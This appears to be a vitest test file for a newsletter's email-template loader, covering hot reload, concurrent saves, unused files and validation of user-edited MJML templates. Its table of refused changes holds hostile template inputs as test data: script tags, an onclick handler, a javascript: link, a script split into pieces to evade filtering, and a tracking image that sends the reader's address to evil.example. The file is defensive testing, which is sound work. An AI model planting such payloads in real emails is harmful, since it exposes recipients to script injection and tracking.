import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { createLog } from "../platform/index.ts";
import { templateFolder } from "./templates.ts";

const root = new URL("../../templates/", import.meta.url);
const ours = {
  read: (name: string) => readFileSync(new URL(name, root), "utf8"),
  names: readdirSync(root).sort(),
};

let data: string;
let folder: string;
let logged: { file?: string; line?: number | null; fault?: string; msg?: string }[];
beforeEach(async () => {
  data = mkdtempSync(join(tmpdir(), "nashra-templates-"));
  folder = join(data, "templates");
  await mkdir(folder);
  logged = [];
});
afterEach(() => rmSync(data, { recursive: true, force: true }));

/** A process that starts now, with these templates of ours. */
const start = (builtIn = ours) => {
  const log = createLog("info", { write: (line) => void logged.push(JSON.parse(line)) });
  return templateFolder(folder, join(data, "templates-in-use.json"), builtIn, log);
};
let written = 0;
const write = (name: string, text: string) => {
  const file = join(folder, name);
  writeFileSync(file, text);
  const time = Date.now() / 1000 + ++written; // the same second, and another stamp
  utimesSync(file, time, time);
};
const soon = () => new Promise((done) => setTimeout(done, 1050));

const story = ours.read("story.mjml");
const mine = (mark: string) =>
  story.replace('<h3 class="title small">', `<h3 class="title small" id="${mark}">`);

test("without a folder ours are used", async () => {
  rmSync(folder, { recursive: true });
  const { source, check } = start();
  expect((await source())("story.mjml")).toBe(story);
  expect(await check()).toEqual({ files: [], faults: [], unused: [] });
});

test("what was tried out is not tried out again, and what is changed is", async () => {
  let reads = 0;
  const read = (name: string) => {
    reads++;
    return ours.read(name);
  };
  const { check } = start({ ...ours, read });
  const readsOf = async (mark: string) => {
    reads = 0;
    expect((await check()).faults).toEqual([]);
    return `${mark}: ${reads > 70 ? "tried" : "known"}`;
  };
  expect(await readsOf("none")).toBe("none: known");
  write("story.mjml", mine("one"));
  expect(await readsOf("one")).toBe("one: tried");
  expect(await readsOf("one")).toBe("one: known");
  write("story.mjml", mine("two"));
  expect(await readsOf("two")).toBe("two: tried");
  write("story.mjml", `${story}{% if one %}`);
  const [first, again] = [await check(), await check()];
  expect(first.faults).not.toEqual([]);
  expect(again).toEqual(first);
});

test("of two who save at once what they both saw, one is told that the other was quicker", async () => {
  const templates = start();
  const { read } = templates;
  const seen = (await read("story.mjml"))?.mark ?? "";
  const done = await Promise.all(
    ["one", "two"].map((mark) => templates.save("story.mjml", mine(mark), seen)),
  );
  expect(done.map(({ kind }) => kind)).toEqual(["saved", "moved"]);
  expect((await read("story.mjml"))?.text).toContain('id="one"');
});

test("a block that takes itself in is told of at once, and holds up nobody else", async () => {
  const before = process.cpuUsage();
  const draft = { name: "story.mjml", text: `${story}{% reuse "story.mjml", story: story %}` };
  const tried = await start().tryOut(draft, "digest", "ar", { name: "x", colour: "#123456", logoUrl: null });
  expect(tried).toMatchObject({
    ok: false,
    faults: [{ message: expect.stringContaining("block limit exceeded") }],
  });
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(3000);
});

test("ours themselves are good", async () => {
  for (const name of ours.names) write(name, ours.read(name));
  expect(await start().check()).toMatchObject({ faults: [], unused: [] });
});

test("a file that no mail uses is named: a misspelt name, or one that only such a file takes in", async () => {
  write("storry.mjml", mine("one"));
  write("Story.mjml", mine("one"));
  write("story.mjml", `${mine("one")}{% render "mark.mjml" %}`);
  write("mark.mjml", "");
  write("draft.mjml", '{% render "part.mjml" %}');
  write("part.mjml", "");
  write(".story.mjml.swp", "");
  expect(await start().check()).toMatchObject({
    faults: [],
    unused: ["Story.mjml", "draft.mjml", "part.mjml", "storry.mjml"],
  });
});

test("a good one is taken without a restart; a broken one is refused with its line, and the last good one stays", async () => {
  const running = start();
  const before = await running.source();
  expect(before("story.mjml")).toBe(story);
  expect(await running.source()).toBe(before); // the same reader: nothing is parsed again

  write("story.mjml", mine("one"));
  await soon();
  expect((await running.source())("story.mjml")).toBe(mine("one"));

  write("story.mjml", mine("two").replace("{{ story.title | bidi }}", "{{ story.tittle | bidi }}"));
  await soon();
  expect((await running.source())("story.mjml")).toBe(mine("one"));
  expect(logged.filter(({ fault }) => fault)).toEqual([
    expect.objectContaining({
      file: join(folder, "story.mjml"),
      line: 3,
      fault: expect.stringContaining("undefined variable: story.tittle"),
      msg: "template refused; the last good ones stay in use",
    }),
  ]);

  // Another process, and one that starts anew: the last good one, not the broken and not ours.
  expect((await start().source())("story.mjml")).toBe(mine("one"));

  write("story.mjml", mine("three"));
  expect((await start().source())("story.mjml")).toBe(mine("three"));
  rmSync(join(folder, "story.mjml"));
  expect((await start().source())("story.mjml")).toBe(story);
});

test("broken from the first, ours are used", async () => {
  write("digest.mjml", "<mjml>");
  expect((await start().source())("digest.mjml")).toBe(ours.read("digest.mjml"));
  expect(logged.some(({ msg }) => msg === "template refused; ours are used")).toBe(true);
});

test("what does not go with ours of a newer version is not used any more", async () => {
  write("story.mjml", mine("one"));
  await start().source();
  const newer = {
    ...ours,
    read: (name: string) => ours.read(name).replaceAll("story: story", "item: story"),
  };
  expect((await start(newer).source())("story.mjml")).toBe(newer.read("story.mjml"));
});

test("many at once look once", async () => {
  const running = start();
  write("story.mjml", mine("one"));
  const readers = await Promise.all(Array.from({ length: 50 }, () => running.source()));
  expect(new Set(readers).size).toBe(1);
});

const footer = '<a style="white-space:nowrap;" href="{{ personal.unsubscribeUrl }}">';
describe("what is refused, and where", () => {
  test.each([
    [
      "an element that MJML does not know",
      "lead.mjml",
      (it: string) => it.replace("<mj-table>", "<mj-tabel>").replace("</mj-table>", "</mj-tabel>"),
      1,
      /mj-tabel/,
    ],
    [
      "an attribute that it does not know",
      "frame.mjml",
      (it: string) => it.replace("<mj-body background", '<mj-body dir="rtl" background'),
      "<mj-body dir",
      /mj-body.*dir/,
    ],
    [
      "one that comes in by a loop",
      "issue.mjml",
      (it: string) =>
        it.replace('<mj-table padding="28px 24px 0">', '<mj-table padding="28px 24px 0" bidi="x">'),
      "bidi=",
      /bidi/,
    ],
    [
      "a value that is not there",
      "heading.mjml",
      (it: string) => it.replace("heading |", "title |"),
      1,
      /undefined variable: title/,
    ],
    [
      "what a block was not given",
      "story.mjml",
      (it: string) => it.replace("story.source", "digest.name"),
      "digest.name",
      /undefined variable: digest/,
    ],
    [
      "a filter that is not there",
      "story.mjml",
      (it: string) => it.replace("| bidi }}</a></h3>", "| shout }}</a></h3>"),
      "shout",
      /undefined filter: shout/,
    ],
    ["an end that is missing", "story.mjml", (it: string) => it.replace("{%- endif %}", ""), 4, /not closed/],
    [
      "no link to unsubscribe",
      "issue-footer.mjml",
      (it: string) => it.replace(footer, '<a href="https://paper.example/">'),
      null,
      /personal\.unsubscribeUrl/,
    ],
    [
      "no link to unsubscribe in plain text",
      "issue-footer.txt",
      (it: string) => it.replace("{{ personal.unsubscribeUrl }}", ""),
      null,
      /personal\.unsubscribeUrl/,
    ],
    [
      "no link to a story",
      "story.txt",
      (it: string) => it.replace("{{ story.url }}", ""),
      null,
      /story\.url/,
    ],
    [
      "no address of the publisher",
      "foot.txt",
      (it: string) => it.replace("{{ publisher.postalAddress }}", ""),
      null,
      /postalAddress/,
    ],
    [
      "no button",
      "letter.mjml",
      (it: string) => it.replaceAll("{{ action.link }}", "https://paper.example/"),
      null,
      /action\.link/,
    ],
    ["a script", "story.mjml", (it: string) => `${it}<script>alert(1)</script>`, "<script", /<script>/],
    [
      "a script in an attribute",
      "story.mjml",
      (it: string) => it.replace("<h3", '<h3 onclick="alert(1)"'),
      "onclick",
      /scripts/,
    ],
    [
      "a script as an address",
      "story.mjml",
      (it: string) => it.replace('href="{{ story.url }}"', 'href="javascript:alert(1)"'),
      "javascript",
      /address/,
    ],
    ["a form", "story.mjml", (it: string) => `${it}\n<form action="https://x">`, "<form", /<form>/],
    [
      "a font from elsewhere",
      "frame.mjml",
      (it: string) =>
        it.replace("<mj-title>", '<mj-font name="X" href="https://fonts.example/x" />\n<mj-title>'),
      "mj-font",
      /who reads/,
    ],
    [
      "a text that is not escaped",
      "story.mjml",
      (it: string) => it.replace("story.title | bidi", "story.title | raw"),
      "raw",
      /raw/,
    ],
    [
      "a picture in a list of pictures that tells who opens it",
      "story.mjml",
      (it: string) =>
        it.replace(
          '<p class="muted">',
          '<img srcset="https://evil.example/p?u={{ personal.address }} 1x" alt="" /><p class="muted">',
        ),
      null,
      /who opens/,
    ],
    [
      "a picture behind a text that does",
      "frame.mjml",
      (it: string) =>
        it.replace(
          "</mj-body>",
          '<mj-raw><div style="background-image:url({{ personal.preferencesUrl }})"></div></mj-raw></mj-body>',
        ),
      null,
      /who opens/,
    ],
    [
      "a script put together of pieces",
      "story.mjml",
      (it: string) => it.replace('<p class="muted">', '<scr{{ "" }}ipt>1</scr{{ "" }}ipt><p class="muted">'),
      null,
      /<script>/,
    ],
    [
      "a picture that tells who opens it",
      "story.mjml",
      (it: string) => it.replace('<p class="muted">', '<img src="{{ personal.webUrl }}" /><p class="muted">'),
      null,
      /who opens/,
    ],
    [
      "a subject that a filter changed",
      "frame.mjml",
      (it: string) => it.replace("{{ subject }}", "{{ subject | upcase }}"),
      null,
      /no filters/,
    ],
    [
      "a block where MJML drops it",
      "issue.mjml",
      (it: string) =>
        it.replace(
          '<mj-table padding="0 24px 24px">',
          '{% reuse "heading.mjml", heading: "x" %}<mj-table padding="0 24px 24px">',
        ),
      1,
      /<tr>/,
    ],
    ["a layout that is not there", "digest.mjml", () => '{% layout "mine.mjml" %}', 1, /mine\.mjml/],
  ] as const)("%s", async (_, name, change, place, message) => {
    const text = change(ours.read(name));
    expect(text).not.toBe(ours.read(name));
    write(name, text);
    const { faults } = await start().check();
    const [fault] = faults;
    expect(fault?.message).toMatch(message);
    if (place === null) expect(fault?.line).toBeNull();
    else if (typeof place === "number") expect(fault?.line).toBeGreaterThan(0);
    else {
      const line = text.split("\n").findIndex((it) => it.includes(place)) + 1;
      expect([fault?.file, fault?.line]).toEqual([name, line]);
    }
    expect((await start().source())(name)).toBe(ours.read(name));
  });
});

test("what is no file, or too large, is told by name; nobody waits for a pipe", async () => {
  execFileSync("mkfifo", [join(folder, "digest.txt")]);
  write("story.mjml", "x".repeat(200_001));
  const { faults } = await start().check();
  expect(faults.map(({ file, message }) => [file, message])).toEqual(
    expect.arrayContaining([
      ["digest.txt", "is no file"],
      ["story.mjml", "has 200001 octets, and a template takes 200000"],
    ]),
  );
  expect((await start().source())("story.mjml")).toBe(ours.read("story.mjml"));
});
